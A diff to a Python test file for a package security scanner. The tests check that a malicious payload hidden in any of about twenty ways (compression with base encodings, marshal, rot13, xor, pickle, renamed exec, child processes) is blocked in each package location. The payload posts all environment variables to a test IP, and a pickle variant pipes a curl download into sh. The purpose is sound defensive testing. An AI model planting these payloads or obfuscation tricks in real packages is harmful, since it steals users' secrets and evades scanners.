@@ -12,7 +12,12 @@ package `__init__`, a module the package imports, a `.pth` start-up hook). All
 from __future__ import annotations
 
 import base64
+import bz2
+import codecs
 import itertools
+import lzma
+import marshal
+import zlib
 from pathlib import Path
 
 import pytest
@@ -96,7 +101,68 @@ def test_every_disguise_and_place_is_blocked(source: str, sink: str, tmp_path: P
         directory = tmp_path / f"{disguise}-{place}".replace(" ", "_").replace(".", "")
         directory.mkdir()
         result = scan_target(_package(directory, place, _payload(source, sink, disguise)), Policy())
+        assert result.error is None, result.error  # a failed scan blocks too, but proves nothing
         if result.verdict.decision is not Decision.BLOCK:
             rules = sorted({f.rule for f in result.verdict.findings})
             missed.append(f"{disguise} / {place}: {result.verdict.decision.value} {rules}")
+    assert not missed, "\n".join(missed)
+
+
+# -- ways to hide one payload ----------------------------------------------------------------
+
+BODY = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('http://198.51.100.17/x', data=str(dict(os.environ)).encode())\n"
+)
+_B64 = base64.b64encode(BODY.encode()).decode()
+_CODE = marshal.dumps(compile(BODY, "payload", "exec"))
+_PICKLE = b"cos\nsystem\n(S'curl -s http://198.51.100.17/x | sh'\ntR."
+_ZLIB = base64.b64encode(zlib.compress(BODY.encode())).decode()
+_LZMA = base64.b85encode(lzma.compress(BODY.encode())).decode()
+_BZ2 = base64.b32encode(bz2.compress(BODY.encode())).decode()
+HIDDEN = {
+    "zlib+base64": f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({_ZLIB!r})))\n",
+    "lzma+base85": f"import lzma, base64\nexec(lzma.decompress(base64.b85decode({_LZMA!r})))\n",
+    "bz2+base32": f"import bz2, base64\nexec(bz2.decompress(base64.b32decode({_BZ2!r})))\n",
+    "marshal": f"import marshal\nexec(marshal.loads({_CODE!r}))\n",
+    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode(BODY, 'rot13')!r}, 'rot13'))\n",
+    "reversed": f"exec({BODY[::-1]!r}[::-1])\n",
+    "getattr(builtins)": "import builtins, base64\n"
+    f"getattr(builtins, 'ex' + 'ec')(base64.b64decode({_B64!r}))\n",
+    "__import__ chain": f"__import__('builtins').exec(__import__('base64').b64decode({_B64!r}))\n",
+    "import_module(built name)": "import importlib\nb = importlib.import_module('base' + '64')\n"
+    f"exec(b.b64decode({_B64!r}))\n",
+    "compile+eval": f"import base64\neval(compile(base64.b64decode({_B64!r}), '<x>', 'exec'))\n",
+    "lambda": f"import base64\n(lambda c: exec(c))(base64.b64decode({_B64!r}))\n",
+    "chr codes": f"exec(''.join(chr(c) for c in {[ord(c) for c in BODY]!r}))\n",
+    "xor": f"k = 42\nexec(bytes(b ^ k for b in {bytes(b ^ 42 for b in BODY.encode())!r}))\n",
+    "split base64": f"import base64\na = {_B64[:40]!r}\nb = {_B64[40:]!r}\n"
+    "exec(base64.b64decode(a + b))\n",
+    "pickle": f"import pickle, base64\npickle.loads(base64.b64decode({base64.b64encode(_PICKLE)!r}))\n",
+    "FunctionType(marshal)": "import marshal, types\n"
+    f"types.FunctionType(marshal.loads({_CODE!r}), globals())()\n",
+    "globals()['__builtins__']": "import base64\n"
+    f"globals()['__builtins__']['exec'](base64.b64decode({_B64!r}))\n",
+    "vars(builtins)": "import base64, builtins\n"
+    f"vars(builtins)['exec'](base64.b64decode({_B64!r}))\n",
+    "exec under another name": f"f = exec\np = bytes.fromhex({BODY.encode().hex()!r})\nf(p)\n",
+    "python -c in a child": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {BODY!r}])\n",
+    "written out and run": "import base64, os, subprocess, sys, tempfile\n"
+    "p = os.path.join(tempfile.gettempdir(), 'x.py')\n"
+    f"open(p, 'w').write(base64.b64decode({_B64!r}).decode())\n"
+    "subprocess.Popen([sys.executable, p])\n",
+}
+
+
+@pytest.mark.parametrize("way", list(HIDDEN), ids=list(HIDDEN))
+def test_every_way_of_hiding_is_blocked_in_every_place(way: str, tmp_path: Path) -> None:
+    missed = []
+    for place in PLACES:
+        directory = tmp_path / place.replace(" ", "_").replace(".", "")
+        directory.mkdir()
+        result = scan_target(_package(directory, place, HIDDEN[way]), Policy())
+        assert result.error is None, result.error
+        if result.verdict.decision is not Decision.BLOCK:
+            rules = sorted({f.rule for f in result.verdict.findings})
+            missed.append(f"{place}: {result.verdict.decision.value} {rules}")
     assert not missed, "\n".join(missed)
